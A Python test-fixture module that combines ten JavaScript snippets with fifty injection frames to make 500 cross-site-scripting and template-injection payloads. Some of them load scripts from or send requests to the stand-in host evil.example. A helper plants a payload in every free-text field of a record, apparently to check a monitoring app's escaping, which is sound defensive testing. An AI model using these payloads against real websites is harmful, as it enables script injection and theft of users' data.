"""500 hostile texts, and records with them in every place that holds words from outside."""

from __future__ import annotations

import dataclasses
from functools import cache
from typing import Any, TypeVar

from monitor.model import DocumentKey

T = TypeVar("T")

SCRIPTS = (
    "alert(1)", "window.hit=1", "document.title='hit'", "fetch('https://evil.example/')", "import('//evil.example/x.js')",
    "location='https://evil.example'", "parent.postMessage(1,'*')", "eval(name)", "setTimeout('hit()')", "top.hit()",
)  # fmt: skip
FRAMES = (
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "</script><script>{}</script>", "<script/src=//evil.example>{}</script>",
    "<img src=x onerror={}>", "<img src=x onerror='{}'>", '"><img src=x onerror="{}">', "'><svg onload={}>",
    "<svg><script>{}</script></svg>", "<svg/onload={}//", "<body onload={}>", "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<iframe src=javascript:{}></iframe>", "<a href=javascript:{}>x</a>", '<a href="java&#09;script:{}">x</a>',
    "javascript:{}", "JaVaScRiPt:{}", " javascript:{}", "data:text/html,<script>{}</script>", "vbscript:{}",
    '" onmouseover="{}', "' onfocus='{}' autofocus='", "` onclick=`{}`", 'x" style="background:url(javascript:{})',
    "<style>@import 'https://evil.example/x.css';/*{}*/</style>", "</style><script>{}</script>", "</title><script>{}</script>",
    "</textarea><script>{}</script>", "--><script>{}</script><!--", "<!--<script>{}</script>", "]]><script>{}</script>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror={}></style></math>", "<details open ontoggle={}>x</details>",
    "<form action=https://evil.example><input name=q value='{}'></form>", "<meta http-equiv=refresh content='0;url=https://evil.example?{}'>",
    "<base href=https://evil.example/{}>", "<link rel=stylesheet href=https://evil.example/{}>", "<object data='data:text/html,{}'>",
    "{{{{7*7}}}} {}", "{{% import os %}} {}", "${{7*7}} {}", "%(x)s {}", "#{{7*7}} {}", "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}", "\u202e{}\u2066", "[x](javascript:{})", "![x](https://evil.example/{})", "**{}** __x__", "\x00\x01\x08{}\x7f\ufffe",
)  # fmt: skip


@cache
def payloads() -> tuple[str, ...]:
    """Each frame round each script."""
    found = tuple(frame.format(script) for frame in FRAMES for script in SCRIPTS)
    assert len(set(found)) == 500
    return found


def poisoned(record: T, text: str) -> T:
    """The record with every free text in it, at any depth, replaced. Ids, slugs, anchors and digests have a closed grammar."""
    if not dataclasses.is_dataclass(record) or isinstance(record, (type, DocumentKey)):
        return record
    changes: dict[str, Any] = {}
    for field in dataclasses.fields(record):
        value = getattr(record, field.name)
        if field.name in _CLOSED:
            continue
        if field.type in ("str", "str | None"):
            changes[field.name] = text
        elif not isinstance(value, str):  # a word of a Literal type
            changes[field.name] = _inside(value, text)
    return dataclasses.replace(record, **changes)


_CLOSED = {"slug", "anchor", "link", "day", "head", "name_of_place", "stamp", "places", "month", "vendor", "document"}


def _inside(value: Any, text: str) -> Any:
    if isinstance(value, tuple):
        return tuple(_inside(part, text) for part in value)
    if isinstance(value, str):
        return value if value in {"=", "-", "+", ""} else text
    return poisoned(value, text)
